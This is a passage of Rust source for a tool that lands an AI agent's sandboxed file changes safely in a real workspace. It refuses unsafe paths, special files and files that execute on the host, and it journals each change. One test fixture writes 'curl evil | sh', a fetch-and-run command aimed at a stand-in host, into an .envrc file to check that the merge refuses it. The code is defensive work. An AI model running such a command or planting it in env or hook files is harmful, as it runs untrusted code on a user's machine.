//! Landing an agent's changes in the real workspace.
//!
//! The order of work is fixed so that a merge that fails or is killed leaves the workspace either
//! untouched or in a state a re-run completes:
//! 1. refuse, before anything is written: unsafe paths, files that would execute on the host
//!    (unless allowed), and special files (FIFOs, sockets, devices), each by name;
//! 2. validate every source: regular files are opened with `O_NONBLOCK | O_NOFOLLOW` (a FIFO
//!    never blocks the merge), their type checked with `fstat`, their content hashed; links are
//!    read; and every destination parent is checked to be a real directory on the host;
//! 3. record the plan in a journal (the session's `merge.journal`), then apply: deletions first,
//!    deepest first (so a directory is emptied before it is replaced by a link), then
//!    directories, files and links in path order. Destinations are reached through directory
//!    descriptors opened one component at a time with `O_NOFOLLOW`, so no link on the host is
//!    ever followed; each file is written to a temporary name, its content re-hashed against
//!    the validated hash, synced and renamed into place; each landed change is journalled.
//!
//! A re-run treats a path whose host state already equals the agent's version as landed, not as
//! a conflict, and says which files an interrupted run had landed.

use std::ffi::{CString, OsStr};
use std::fs;
use std::io::Write;
use std::os::fd::{AsFd, OwnedFd};
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
use std::path::{Component, Path, PathBuf};

use nix::errno::Errno;
use nix::fcntl::{openat, renameat, OFlag};
use nix::sys::stat::{fchmod, fstatat, mkdirat, Mode, SFlag};
use nix::unistd::{symlinkat, unlinkat, UnlinkatFlags};
use sha2::{Digest, Sha256};

use crate::changes::{open_regular, same, Change, ChangeKind, EntryType};
use crate::SessionError;

pub use crate::review::{exec_reason, is_git_internal, Allow};

/// The git directory `workspace` lies in, if any: a path component named `.git`, or an
/// ancestor (the workspace itself included) laid out as a git directory (`HEAD`, `objects/`,
/// `refs/`: a bare repository or a `.git` under another name). Such a workspace is refused by
/// `airlock run` and `airlock merge`: git runs the hooks and config written there on the host
/// (gitrepository-layout(5)), and paths in it are not recognised as `.git/hooks/…` by the
/// exec-file check.
pub fn enclosing_git_dir(workspace: &Path) -> Option<PathBuf> {
    let mut at = Some(workspace);
    while let Some(dir) = at {
        let laid_out = |d: &Path| {
            std::fs::symlink_metadata(d.join("HEAD")).is_ok_and(|m| m.is_file())
                && std::fs::symlink_metadata(d.join("objects")).is_ok_and(|m| m.is_dir())
                && std::fs::symlink_metadata(d.join("refs")).is_ok_and(|m| m.is_dir())
        };
        if dir.file_name().is_some_and(|n| n == ".git") || laid_out(dir) {
            return Some(dir.to_path_buf());
        }
        at = dir.parent();
    }
    None
}

/// The outcome of a merge.
#[derive(Debug, Default)]
pub struct MergeReport {
    /// Changes now in place, sorted by path (landed by this run, or found already landed).
    pub applied: Vec<Change>,
    /// Changes refused up front, with the reason; nothing was written when this is not empty.
    pub refused: Vec<(Change, String)>,
}

/// A path that is safe to join under a root: relative, no `..`.
fn safe_rel(p: &Path) -> bool {
    p.components().all(|c| matches!(c, Component::Normal(_)))
}

/// The first proper prefix of `rel` that is not a real directory on the host (a link, a file,
/// anything else), if any. Prefixes are checked from the root down, so no link is followed.
fn host_blocker(workspace: &Path, rel: &Path) -> Option<PathBuf> {
    let mut prefix = PathBuf::new();
    let parent = rel.parent()?;
    for c in parent.components() {
        prefix.push(c);
        match fs::symlink_metadata(workspace.join(&prefix)) {
            Ok(m) if m.is_dir() => {}
            Ok(_) => return Some(prefix),
            Err(_) => return None, // missing: created by the merge
        }
    }
    None
}

/// Whether `c` makes `p` a directory.
fn is_made_dir(c: &Change, p: &Path) -> bool {
    c.path == p && c.entry == EntryType::Dir && c.kind != ChangeKind::Deleted
}

/// Whether one of `changes` makes `p` a directory (replacing the host's link or file there).
fn made_dir(changes: &[Change], p: &Path) -> bool {
    changes.iter().any(|c| is_made_dir(c, p))
}

/// Whether the host already has the agent's version of `c` (landed by an interrupted merge, or
/// the same edit made on the host): nothing to do and nothing to conflict with.
pub fn in_place(workspace: &Path, upper: &Path, c: &Change) -> bool {
    if host_blocker(workspace, &c.path).is_some() {
        return false;
    }
    let host = workspace.join(&c.path);
    match c.kind {
        ChangeKind::Deleted => fs::symlink_metadata(&host).is_err(),
        _ if c.entry.is_special() => false,
        _ => same(&host, &upper.join(&c.path)).unwrap_or(false),
    }
}

/// Conflicts: host paths changed after `since` (seconds since the epoch) that the agent changed
/// too, paths the agent added that the host has created meanwhile, and paths below a directory
/// the host replaced with a link or a file. A path already in the agent's state is not one.
pub fn conflicts(workspace: &Path, upper: &Path, changes: &[Change], since: i64) -> Vec<PathBuf> {
    changes
        .iter()
        .filter(|c| !in_place(workspace, upper, c))
        .filter(|c| {
            if let Some(p) = host_blocker(workspace, &c.path) {
                // A link (or file) the agent replaced by a directory is checked as that
                // change; what is below it is new, whatever the host's link leads to.
                return !made_dir(changes, &p);
            }
            let host = workspace.join(&c.path);
            match fs::symlink_metadata(&host) {
                Ok(m) => match c.kind {
                    ChangeKind::Added => !c.dir,
                    // A directory the agent replaced: what the host changed inside it shows up
                    // as the deletions listed below it, each checked on its own; the directory's
                    // own times also move when an interrupted merge deleted those.
                    ChangeKind::Modified if c.was == Some(EntryType::Dir) && m.is_dir() => false,
                    _ => m.mtime() > since || m.ctime() > since,
                },
                // Deleted on the host meanwhile while the agent modified it.
                Err(_) => c.kind == ChangeKind::Modified,
            }
        })
        .map(|c| c.path.clone())
        .collect()
}

/// A validated source.
#[derive(Debug)]
enum Source {
    Delete,
    Dir,
    Link(PathBuf),
    File {
        mode: u32,
        len: u64,
        /// Bytes of data, holes excluded: what the copy allocates.
        data: u64,
        dev: u64,
        ino: u64,
        sha256: [u8; 32],
    },
}

/// Walks the data of the first `len` bytes of `f`, skipping holes (lseek(2) `SEEK_DATA` /
/// `SEEK_HOLE`; file systems without hole tracking report the whole file as data), and
/// fingerprints it: SHA-256 over the length and every data chunk with its offset. When `to` is
/// given, each chunk is written at its offset there, so holes stay holes. Returns the digest and
/// the number of data bytes (what the copy allocates).
fn walk_data(
    f: &fs::File,
    path: &Path,
    len: u64,
    to: Option<(&fs::File, &Path)>,
) -> Result<([u8; 32], u64), SessionError> {
    use nix::unistd::{lseek, Whence};
    use std::os::unix::fs::FileExt;
    let mut h = Sha256::new();
    h.update(len.to_le_bytes());
    let mut buf = vec![0u8; 256 * 1024];
    let mut pos = 0u64;
    let mut data = 0u64;
    let off = |v: u64| i64::try_from(v).unwrap_or(i64::MAX);
    while pos < len {
        let start = match lseek(f, off(pos), Whence::SeekData) {
            Ok(o) => u64::try_from(o).unwrap_or(len),
            Err(Errno::ENXIO) => break, // only a hole is left
            Err(e) => return Err(io("cannot read", path, e)),
        };
        let end = match lseek(f, off(start), Whence::SeekHole) {
            Ok(o) => u64::try_from(o).unwrap_or(len).min(len),
            Err(e) => return Err(io("cannot read", path, e)),
        };
        let mut at = start;
        while at < end {
            let want = usize::try_from(end - at)
                .unwrap_or(buf.len())
                .min(buf.len());
            let n = f
                .read_at(&mut buf[..want], at)
                .map_err(|e| SessionError::io("cannot read", path, e))?;
            if n == 0 {
                return Err(SessionError::Refused(format!(
                    "{} shrank while merging; run the merge again",
                    crate::quote::path(path)
                )));
            }
            h.update(at.to_le_bytes());
            h.update((n as u64).to_le_bytes());
            h.update(&buf[..n]);
            if let Some((out, shown)) = to {
                out.write_all_at(&buf[..n], at)
                    .map_err(|e| SessionError::io("cannot write", shown, e))?;
            }
            at += n as u64;
            data += n as u64;
        }
        pos = end.max(start + 1);
    }
    Ok((h.finalize().into(), data))
}

/// Checks the agent's version of `c` without blocking or following a link, and fingerprints it.
fn validate(upper: &Path, c: &Change) -> Result<Source, SessionError> {
    if c.kind == ChangeKind::Deleted {
        return Ok(Source::Delete);
    }
    let src = upper.join(&c.path);
    let m = fs::symlink_metadata(&src).map_err(|e| SessionError::io("cannot read", &src, e))?;
    let t = EntryType::of(&m);
    if t != c.entry {
        return Err(SessionError::Refused(format!(
            "{} changed while merging (now {}); nothing was merged",
            crate::quote::path(&src),
            t.describe()
        )));
    }
    match t {
        EntryType::Dir => Ok(Source::Dir),
        EntryType::Symlink => fs::read_link(&src)
            .map(Source::Link)
            .map_err(|e| SessionError::io("cannot read", &src, e)),
        EntryType::File => {
            let (f, m) = open_regular(&src)?;
            let (sha256, data) = walk_data(&f, &src, m.len(), None)?;
            Ok(Source::File {
                mode: m.mode() & 0o777,
                len: m.len(),
                data,
                dev: m.dev(),
                ino: m.ino(),
                sha256,
            })
        }
        other => Err(SessionError::Refused(format!(
            "{} is {}; nothing was merged",
            crate::quote::path(&src),
            other.describe()
        ))),
    }
}

/// Applies `changes` from `upper` to `workspace`, journalling progress in `journal`. Changes with
/// a concern ([`crate::review`]: files that execute on the host, links leaving the workspace,
/// files `diff` cannot show in full) are refused unless `allow` lets them through, special files
/// always; nothing is written when anything is refused or a source or destination fails
/// validation. The caller checks conflicts first.
pub fn apply(
    workspace: &Path,
    upper: &Path,
    changes: &[Change],
    allow: Allow,
    journal: &Path,
) -> Result<MergeReport, SessionError> {
    apply_with_progress(workspace, upper, changes, allow, journal, &mut |_, _| {})
}

/// [`apply`], calling `progress(landed, total)` after each change lands (for a progress line on
/// large merges).
pub fn apply_with_progress(
    workspace: &Path,
    upper: &Path,
    changes: &[Change],
    allow: Allow,
    journal: &Path,
    progress: &mut dyn FnMut(usize, usize),
) -> Result<MergeReport, SessionError> {
    let mut report = MergeReport::default();
    for c in changes {
        if !safe_rel(&c.path) {
            return Err(SessionError::Refused(format!(
                "refusing the unsafe path {}",
                crate::quote::path(&c.path)
            )));
        }
        if c.kind != ChangeKind::Deleted && c.entry.is_special() {
            report.refused.push((
                c.clone(),
                format!(
                    "{}: only files, directories and links are merged",
                    c.entry.describe()
                ),
            ));
        } else {
            for k in crate::changes::concerns_of(workspace, upper, c) {
                if !k.allowed(allow) {
                    report
                        .refused
                        .push((c.clone(), format!("{k} (pass {} to land it)", k.flag())));
                }
            }
        }
    }
    if !report.refused.is_empty() {
        return Ok(report);
    }
    let todo: Vec<&Change> = changes
        .iter()
        .filter(|c| !is_git_internal(&c.path) && !in_place(workspace, upper, c))
        .collect();
    let mut plan = Vec::with_capacity(todo.len());
    for c in &todo {
        plan.push((*c, validate(upper, c)?));
    }
    check_destinations(workspace, &todo)?;
    check_space(workspace, &plan)?;
    plan.sort_by(|(a, _), (b, _)| apply_order(a, b));
    let mut log = Journal::begin(journal, plan.len())?;
    fault_point("merge-planned");
    let root = open_root(workspace)?;
    for (i, (c, src)) in plan.iter().enumerate() {
        land(&root, workspace, upper, c, src)?;
        log.landed(c, src)?;
        report.applied.push((*c).clone());
        progress(i + 1, plan.len());
        fault_point("merge-landed");
    }
    // Already in place (an interrupted run, or the same edit on the host): reported as landed.
    for c in changes {
        if !is_git_internal(&c.path) && !todo.iter().any(|t| t.path == c.path) {
            report.applied.push(c.clone());
        }
    }
    report.applied.sort_by(|a, b| a.path.cmp(&b.path));
    Ok(report)
}

/// Deletions first, deepest first; then everything else in path order (parents first).
fn apply_order(a: &Change, b: &Change) -> std::cmp::Ordering {
    let del = |c: &Change| c.kind == ChangeKind::Deleted;
    match (del(a), del(b)) {
        (true, false) => std::cmp::Ordering::Less,
        (false, true) => std::cmp::Ordering::Greater,
        (true, true) => b.path.cmp(&a.path),
        (false, false) => a.path.cmp(&b.path),
    }
}

/// Refuses, before anything is written, a plan whose file data (holes excluded, each file
/// rounded up to the file system's block) exceeds what the workspace's file system has free for
/// this user (statvfs(3) `f_bavail`). Space the merge would free by replacing files is not
/// counted, so the check errs on the side of refusing.
fn check_space(workspace: &Path, plan: &[(&Change, Source)]) -> Result<(), SessionError> {
    let st = nix::sys::statvfs::statvfs(workspace).map_err(|e| io("cannot stat", workspace, e))?;
    let block = st.fragment_size().max(1);
    let need: u64 = plan
        .iter()
        .map(|(_, s)| match s {
            Source::File { data, .. } => data.div_ceil(block).saturating_mul(block),
            _ => 0,
        })
        .fold(0u64, u64::saturating_add);
    let free = st.blocks_available().saturating_mul(block);
    if need > free {
        return Err(SessionError::Refused(format!(
            "the session's files need {} on disk (holes excluded) but the file system of {} has \
             only {} free. Free some space and run the merge again, or copy what you need from \
             the session's upper layer by hand",
            human_size(need),
            crate::quote::path(workspace),
            human_size(free)
        )));
    }
    Ok(())
}

/// `n` bytes as "1.5 GiB (1610612736 bytes)".
pub fn human_size(n: u64) -> String {
    const UNITS: [&str; 5] = ["KiB", "MiB", "GiB", "TiB", "PiB"];
    if n < 1024 {
        return format!("{n} bytes");
    }
    let mut v = n as f64 / 1024.0;
    let mut unit = UNITS[0];
    for u in &UNITS[1..] {
        if v < 1024.0 {
            break;
        }
        v /= 1024.0;
        unit = u;
    }
    format!("{v:.1} {unit} ({n} bytes)")
}

/// Every destination's parents must be real directories on the host, or become ones through
/// the plan itself (a link the agent replaced by a directory).
fn check_destinations(workspace: &Path, todo: &[&Change]) -> Result<(), SessionError> {
    for c in todo {
        if let Some(p) = host_blocker(workspace, &c.path) {
            if !todo.iter().any(|d| is_made_dir(d, &p)) {
                return Err(SessionError::Refused(format!(
                    "{} in the workspace is no longer a directory (a link or a file replaced it on \
                     the host), so {} cannot be merged without writing through it; nothing was \
                     merged. Restore the directory, or resolve by hand",
                    crate::quote::path(&workspace.join(&p)),
                    crate::quote::path(&c.path)
                )));
            }
        }
    }
    Ok(())
}

fn io(what: &'static str, p: &Path, e: Errno) -> SessionError {
    SessionError::io(what, p, std::io::Error::from(e))
}

fn open_root(workspace: &Path) -> Result<OwnedFd, SessionError> {
    openat(
        nix::fcntl::AT_FDCWD,
        workspace,
        OFlag::O_RDONLY | OFlag::O_DIRECTORY | OFlag::O_CLOEXEC,
        Mode::empty(),
    )
    .map_err(|e| io("cannot open", workspace, e))
}

/// The directory holding `rel`, reached one component at a time without following links;
/// missing directories are created.
fn open_parent(root: &OwnedFd, workspace: &Path, rel: &Path) -> Result<OwnedFd, SessionError> {
    let mut cur = root
        .try_clone()
        .map_err(|e| SessionError::io("cannot open", workspace, e))?;
    let mut shown = workspace.to_path_buf();
    for comp in rel.parent().unwrap_or(Path::new("")).components() {
        let Component::Normal(n) = comp else {
            return Err(SessionError::Refused(format!(
                "refusing the unsafe path {}",
                crate::quote::path(&rel)
            )));
        };
        shown.push(n);
        let flags = OFlag::O_RDONLY | OFlag::O_DIRECTORY | OFlag::O_NOFOLLOW | OFlag::O_CLOEXEC;
        let next = match openat(&cur, n, flags, Mode::empty()) {
            Ok(fd) => fd,
            Err(Errno::ENOENT) => {
                match mkdirat(&cur, n, Mode::from_bits_truncate(0o755)) {
                    Ok(()) | Err(Errno::EEXIST) => {}
                    Err(e) => return Err(io("cannot create", &shown, e)),
                }
                openat(&cur, n, flags, Mode::empty()).map_err(|e| io("cannot open", &shown, e))?
            }
            Err(Errno::ELOOP | Errno::ENOTDIR) => {
                return Err(SessionError::Refused(format!(
                    "{} is not a directory (a link or a file); airlock does not write through it",
                    crate::quote::path(&shown)
                )))
            }
            Err(e) => return Err(io("cannot open", &shown, e)),
        };
        cur = next;
    }
    Ok(cur)
}

/// Removes `name` in `dir` whatever it is, never following a link: a directory is emptied
/// through descriptors first.
fn remove_at(dir: &OwnedFd, name: &OsStr, shown: &Path) -> Result<(), SessionError> {
    let flags = OFlag::O_RDONLY | OFlag::O_DIRECTORY | OFlag::O_NOFOLLOW | OFlag::O_CLOEXEC;
    match openat(dir, name, flags, Mode::empty()) {
        Err(Errno::ENOENT) => Ok(()),
        Err(Errno::ELOOP | Errno::ENOTDIR) => match unlinkat(dir, name, UnlinkatFlags::NoRemoveDir)
        {
            Ok(()) | Err(Errno::ENOENT) => Ok(()),
            Err(e) => Err(io("cannot delete", shown, e)),
        },
        Err(e) => Err(io("cannot open", shown, e)),
        Ok(fd) => {
            let sub = fd
                .try_clone()
                .map_err(|e| SessionError::io("cannot open", shown, e))?;
            let mut d = nix::dir::Dir::from_fd(fd).map_err(|e| io("cannot read", shown, e))?;
            let names: Vec<CString> = d
                .iter()
                .flatten()
                .map(|e| e.file_name().to_owned())
                .filter(|n| n.as_bytes() != b"." && n.as_bytes() != b"..")
                .collect();
            drop(d);
            for n in names {
                let child = OsStr::from_bytes(n.as_bytes());
                remove_at(&sub, child, &shown.join(child))?;
            }
            match unlinkat(dir, name, UnlinkatFlags::RemoveDir) {
                Ok(()) | Err(Errno::ENOENT) => Ok(()),
                Err(e) => Err(io("cannot delete", shown, e)),
            }
        }
    }
}

fn is_real_dir(dir: &OwnedFd, name: &OsStr) -> bool {
    fstatat(dir, name, nix::fcntl::AtFlags::AT_SYMLINK_NOFOLLOW)
        .is_ok_and(|st| SFlag::from_bits_truncate(st.st_mode) & SFlag::S_IFMT == SFlag::S_IFDIR)
}

/// The temporary name a file or link is written under before it is renamed into place.
fn tmp_name(name: &OsStr) -> std::ffi::OsString {
    let mut t = std::ffi::OsString::from(".");
    t.push(name);
    t.push(".airlock-merge");
    t
}

/// Lands one validated change.
fn land(
    root: &OwnedFd,
    workspace: &Path,
    upper: &Path,
    c: &Change,
    src: &Source,
) -> Result<(), SessionError> {
    let shown = workspace.join(&c.path);
    let name = c.path.file_name().ok_or_else(|| {
        SessionError::Refused(format!("refusing the path {}", crate::quote::path(&c.path)))
    })?;
    let parent = open_parent(root, workspace, &c.path)?;
    match src {
        Source::Delete => remove_at(&parent, name, &shown)?,
        Source::Dir => {
            if !is_real_dir(&parent, name) {
                remove_at(&parent, name, &shown)?;
                match mkdirat(&parent, name, Mode::from_bits_truncate(0o755)) {
                    Ok(()) | Err(Errno::EEXIST) => {}
                    Err(e) => return Err(io("cannot create", &shown, e)),
                }
            }
        }
        Source::Link(target) => {
            let tmp = tmp_name(name);
            let _ = unlinkat(&parent, tmp.as_os_str(), UnlinkatFlags::NoRemoveDir);
            symlinkat(target.as_path(), &parent, tmp.as_os_str())
                .map_err(|e| io("cannot write", &shown, e))?;
            replace(&parent, &tmp, name, &shown)?;
        }
        Source::File { .. } => {
            let tmp = tmp_name(name);
            let _ = unlinkat(&parent, tmp.as_os_str(), UnlinkatFlags::NoRemoveDir);
            if let Err(e) = write_tmp(&parent, &tmp, &upper.join(&c.path), src, &shown) {
                let _ = unlinkat(&parent, tmp.as_os_str(), UnlinkatFlags::NoRemoveDir);
                return Err(e);
            }
            fault_point("merge-tmp-written");
            replace(&parent, &tmp, name, &shown)?;
        }
    }
    // The rename (or unlink) is durable once the directory is.
    fs::File::from(parent)
        .sync_all()
        .map_err(|e| SessionError::io("cannot sync", &shown, e))
}

/// Writes the temporary copy of a validated file and checks it is still what was validated.
fn write_tmp(
    parent: &OwnedFd,
    tmp: &OsStr,
    src: &Path,
    expect: &Source,
    shown: &Path,
) -> Result<(), SessionError> {
    let Source::File {
        mode,
        len,
        dev,
        ino,
        sha256,
        ..
    } = expect
    else {
        return Ok(());
    };
    let (from, m) = open_regular(src)?;
    if (m.dev(), m.ino(), m.len()) != (*dev, *ino, *len) {
        return Err(SessionError::Refused(format!(
            "{} changed while merging; run the merge again",
            crate::quote::path(src)
        )));
    }
    let fd = openat(
        parent,
        tmp,
        OFlag::O_WRONLY | OFlag::O_CREAT | OFlag::O_EXCL | OFlag::O_NOFOLLOW | OFlag::O_CLOEXEC,
        Mode::from_bits_truncate(0o600),
    )
    .map_err(|e| io("cannot write", shown, e))?;
    let to = fs::File::from(fd);
    // Holes are skipped, not written: the copy is as sparse as the agent's file.
    let (got, _) = walk_data(&from, src, *len, Some((&to, shown)))?;
    to.set_len(*len)
        .map_err(|e| SessionError::io("cannot write", shown, e))?;
    if &got != sha256 {
        return Err(SessionError::Refused(format!(
            "{} changed while merging; run the merge again",
            crate::quote::path(src)
        )));
    }
    fchmod(to.as_fd(), Mode::from_bits_truncate(*mode))
        .map_err(|e| io("cannot set mode of", shown, e))?;
    to.sync_all()
        .map_err(|e| SessionError::io("cannot sync", shown, e))
}

/// Renames `tmp` over `name` in `dir`; a directory in the way is removed first (its contents
/// were deleted by the plan; anything left is removed without following links).
fn replace(dir: &OwnedFd, tmp: &OsStr, name: &OsStr, shown: &Path) -> Result<(), SessionError> {
    if is_real_dir(dir, name) {
        remove_at(dir, name, shown)?;
    }
    renameat(dir, tmp, dir, name).map_err(|e| io("cannot write", shown, e))
}

/// The session's record of a merge in progress: the plan's size, then one line per landed
/// change with its content hash, each synced before the next change is applied.
#[derive(Debug)]
struct Journal {
    file: fs::File,
    path: PathBuf,
}

impl Journal {
    fn begin(path: &Path, n: usize) -> Result<Journal, SessionError> {
        let mut file = fs::OpenOptions::new()
            .create(true)
            .append(true)
            .mode(0o600)
            .custom_flags(libc::O_NOFOLLOW | libc::O_CLOEXEC)
            .open(path)
            .map_err(|e| SessionError::io("cannot write", path, e))?;
        writeln!(file, "begin\t{n}")
            .and_then(|()| file.sync_all())
            .map_err(|e| SessionError::io("cannot write", path, e))?;
        Ok(Journal {
            file,
            path: path.to_path_buf(),
        })
    }

    fn landed(&mut self, c: &Change, src: &Source) -> Result<(), SessionError> {
        let hash = match src {
            Source::File { sha256, .. } => hex::encode(sha256),
            Source::Link(t) => format!("link:{}", crate::quote::path(&t)),
            Source::Dir => "dir".into(),
            Source::Delete => "-".into(),
        };
        let kind = c.kind.as_str();
        let mut line = format!("landed\t{kind}\t{hash}\t").into_bytes();
        line.extend_from_slice(c.path.as_os_str().as_bytes());
        line.push(b'\n');
        self.file
            .write_all(&line)
            .and_then(|()| self.file.sync_all())
            .map_err(|e| SessionError::io("cannot write", &self.path, e))
    }
}

/// The paths an interrupted merge recorded as landed in `journal` (empty when there is none).
pub fn interrupted(journal: &Path) -> Vec<PathBuf> {
    let Ok(bytes) = fs::read(journal) else {
        return Vec::new();
    };
    let mut out: Vec<PathBuf> = bytes
        .split(|b| *b == b'\n')
        .filter_map(|l| {
            let mut f = l.splitn(4, |b| *b == b'\t');
            (f.next()? == b"landed").then_some(())?;
            let (_kind, _hash, path) = (f.next()?, f.next()?, f.next()?);
            Some(PathBuf::from(OsStr::from_bytes(path)))
        })
        .collect();
    out.sort();
    out.dedup();
    out
}

/// Test hook: a debug build killed by SIGKILL at the `n`th time it reaches `label`
/// (`AIRLOCK_TEST_FAULT=label[:n]`), to check what a merge killed half-way leaves. Release
/// builds ignore it.
fn fault_point(label: &str) {
    #[cfg(debug_assertions)]
    {
        use std::sync::atomic::{AtomicU32, Ordering};
        static HITS: AtomicU32 = AtomicU32::new(0);
        let Ok(v) = std::env::var("AIRLOCK_TEST_FAULT") else {
            return;
        };
        let (want, n) = match v.split_once(':') {
            Some((l, n)) => (l.to_string(), n.parse::<u32>().unwrap_or(1)),
            None => (v.clone(), 1),
        };
        if want == label && HITS.fetch_add(1, Ordering::SeqCst) + 1 == n {
            let _ = nix::sys::signal::raise(nix::sys::signal::Signal::SIGKILL);
        }
    }
    #[cfg(not(debug_assertions))]
    let _ = label;
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::changes::EntryType;

    #[test]
    fn exec_files_are_recognised() {
        for p in [
            ".git/hooks/pre-commit",
            ".git/config",
            ".envrc",
            "sub/.envrc",
            ".vscode/tasks.json",
            ".claude/settings.local.json",
            ".github/workflows/ci.yml",
            ".bashrc",
        ] {
            assert!(exec_reason(Path::new(p)).is_some(), "{p}");
        }
        for p in [
            "src/main.rs",
            "README.md",
            ".github/CODEOWNERS",
            "docs/.vscode.md",
        ] {
            assert!(exec_reason(Path::new(p)).is_none(), "{p}");
        }
    }

    #[test]
    fn refused_changes_block_the_whole_merge_unless_allowed() {
        let t = tempfile::tempdir().expect("tempdir");
        let (ws, up) = (t.path().join("ws"), t.path().join("up"));
        fs::create_dir_all(&ws).expect("mkdir");
        fs::create_dir_all(&up).expect("mkdir");
        fs::write(up.join("ok.txt"), "ok").expect("write");
        fs::write(up.join(".envrc"), "curl evil | sh").expect("write");
        let ch = vec![
            Change::new(".envrc".into(), ChangeKind::Added, EntryType::File),
            Change::new("ok.txt".into(), ChangeKind::Added, EntryType::File),
        ];
        let j = t.path().join("journal");
        let r = apply(&ws, &up, &ch, Allow::none(), &j).expect("apply");
        assert_eq!(r.refused.len(), 1);
        assert!(r.applied.is_empty());
        assert!(!ws.join("ok.txt").exists() && !ws.join(".envrc").exists());
        let r = apply(&ws, &up, &ch, Allow::all(), &j).expect("apply");
        assert_eq!(r.applied.len(), 2);
        assert_eq!(fs::read_to_string(ws.join("ok.txt")).expect("read"), "ok");
    }

    #[test]
    fn host_edits_after_the_start_conflict() {
        let t = tempfile::tempdir().expect("tempdir");
        fs::write(t.path().join("f.txt"), "host").expect("write");
        let up = tempfile::tempdir().expect("tempdir");
        fs::write(up.path().join("f.txt"), "agent").expect("write");
        let ch = vec![Change::new(
            "f.txt".into(),
            ChangeKind::Modified,
            EntryType::File,
        )];
        assert!(conflicts(t.path(), up.path(), &ch, i64::MAX).is_empty());
        assert_eq!(
            conflicts(t.path(), up.path(), &ch, 0),
            vec![PathBuf::from("f.txt")]
        );
        // The host already has the agent's version (an interrupted merge landed it): no conflict.
        fs::write(t.path().join("f.txt"), "agent").expect("write");
        assert!(conflicts(t.path(), up.path(), &ch, 0).is_empty());
    }

    fn tree(root: &Path) -> Vec<(PathBuf, String)> {
        let mut out = Vec::new();
        let mut stack = vec![root.to_path_buf()];
        while let Some(d) = stack.pop() {
            for e in fs::read_dir(&d).expect("read_dir").flatten() {
                let p = e.path();
                let m = fs::symlink_metadata(&p).expect("stat");
                let what = if m.is_dir() {
                    stack.push(p.clone());
                    "dir".to_string()
                } else if m.file_type().is_symlink() {
                    format!("-> {}", fs::read_link(&p).expect("link").display())
                } else if m.is_file() {
                    fs::read_to_string(&p).unwrap_or_default()
                } else {
                    "special".to_string()
                };
                out.push((p.strip_prefix(root).expect("prefix").to_path_buf(), what));
            }
        }
        out.sort();
        out
    }

    /// A FIFO, a socket and (where it can be made) a device in the upper layer: each listed as
    /// what it is, the merge refused by name up front, nothing written, nothing opened.
    #[test]
    fn special_files_are_refused_up_front_and_never_opened() {
        use crate::changes::changes;
        type Make = (&'static str, fn(&Path));
        let mut kinds: Vec<Make> = vec![
            ("pipe", |p| {
                nix::unistd::mkfifo(p, Mode::S_IRUSR | Mode::S_IWUSR).expect("mkfifo")
            }),
            ("sock", |p| {
                std::mem::forget(std::os::unix::net::UnixListener::bind(p).expect("bind"))
            }),
        ];
        let dev = |p: &Path| {
            nix::sys::stat::mknod(
                p,
                SFlag::S_IFCHR,
                Mode::S_IRUSR,
                nix::sys::stat::makedev(1, 3),
            )
            .expect("mknod")
        };
        let probe = tempfile::tempdir().expect("tempdir");
        if nix::sys::stat::mknod(
            &probe.path().join("d"),
            SFlag::S_IFCHR,
            Mode::S_IRUSR,
            nix::sys::stat::makedev(1, 3),
        )
        .is_ok()
        {
            kinds.push(("chardev", dev));
        } else {
            airlock_test_support::skip("the character-device variant: mknod is not permitted here");
        }
        for (name, make) in kinds {
            let t = tempfile::tempdir().expect("tempdir");
            let (ws, up) = (t.path().join("ws"), t.path().join("up"));
            fs::create_dir_all(&ws).expect("mkdir");
            fs::create_dir_all(&up).expect("mkdir");
            fs::write(ws.join("a.txt"), "host\n").expect("write");
            fs::write(up.join("a.txt"), "changed\n").expect("write");
            make(&up.join(name));
            fs::write(up.join("zz.txt"), "z\n").expect("write");
            let before = tree(&ws);
            let ch = changes(&ws, &up).expect("changes");
            let special = ch.iter().find(|c| c.path == Path::new(name)).expect(name);
            assert!(special.entry.is_special(), "{name}: {special:?}");
            let shown = crate::changes::unified(&ws, &up, special);
            assert!(shown.contains("special file"), "{name}: {shown}");
            let r = apply(&ws, &up, &ch, Allow::none(), &t.path().join("j")).expect("apply");
            assert_eq!(r.refused.len(), 1, "{name}: {:?}", r.refused);
            assert_eq!(r.refused[0].0.path, Path::new(name));
            assert!(r.applied.is_empty(), "{name}");
            assert_eq!(tree(&ws), before, "{name}: a refused merge wrote something");
            assert!(
                !t.path().join("j").exists(),
                "{name}: journal before validation"
            );
        }
    }

    /// A FIFO swapped in for a regular file after listing is refused without blocking.
    #[test]
    fn a_fifo_swapped_in_after_listing_never_blocks() {
        let t = tempfile::tempdir().expect("tempdir");
        let (ws, up) = (t.path().join("ws"), t.path().join("up"));
        fs::create_dir_all(&ws).expect("mkdir");
        fs::create_dir_all(&up).expect("mkdir");
        nix::unistd::mkfifo(&up.join("f.txt"), Mode::S_IRUSR | Mode::S_IWUSR).expect("mkfifo");
        let ch = vec![Change::new(
            "f.txt".into(),
            ChangeKind::Added,
            EntryType::File,
        )];
        let start = std::time::Instant::now();
        let r = apply(&ws, &up, &ch, Allow::none(), &t.path().join("j"));
        // Refused up front (the content check cannot read it) or failed at validation.
        assert!(r.as_ref().map_or(true, |r| !r.refused.is_empty()), "{r:?}");
        let r = apply(&ws, &up, &ch, Allow::all(), &t.path().join("j"));
        assert!(r.is_err(), "{r:?}");
        assert!(start.elapsed() < std::time::Duration::from_secs(5));
        assert!(open_regular(&up.join("f.txt")).is_err());
        assert!(!ws.join("f.txt").exists());
    }

    /// A directory the agent replaced by a link: not a conflict when the host left it alone, and
    /// the directory's contents are deleted before the link appears (never through it).
    #[test]
    fn a_directory_replaced_by_a_link_lands_safely_without_a_false_conflict() {
        use crate::changes::changes;
        let t = tempfile::tempdir().expect("tempdir");
        let (ws, up, outside) = (
            t.path().join("ws"),
            t.path().join("up"),
            t.path().join("out"),
        );
        for d in [&ws.join("d/sub"), &up, &outside] {
            fs::create_dir_all(d).expect("mkdir");
        }
        fs::write(ws.join("d/x"), "x").expect("write");
        fs::write(ws.join("d/sub/y"), "y").expect("write");
        fs::write(outside.join("x"), "outside").expect("write");
        std::os::unix::fs::symlink(&outside, up.join("d")).expect("symlink");
        let ch = changes(&ws, &up).expect("changes");
        let d = ch.iter().find(|c| c.path == Path::new("d")).expect("d");
        assert_eq!(d.kind, ChangeKind::Modified, "{ch:?}");
        assert_eq!(d.was, Some(EntryType::Dir));
        let now = std::time::SystemTime::now()
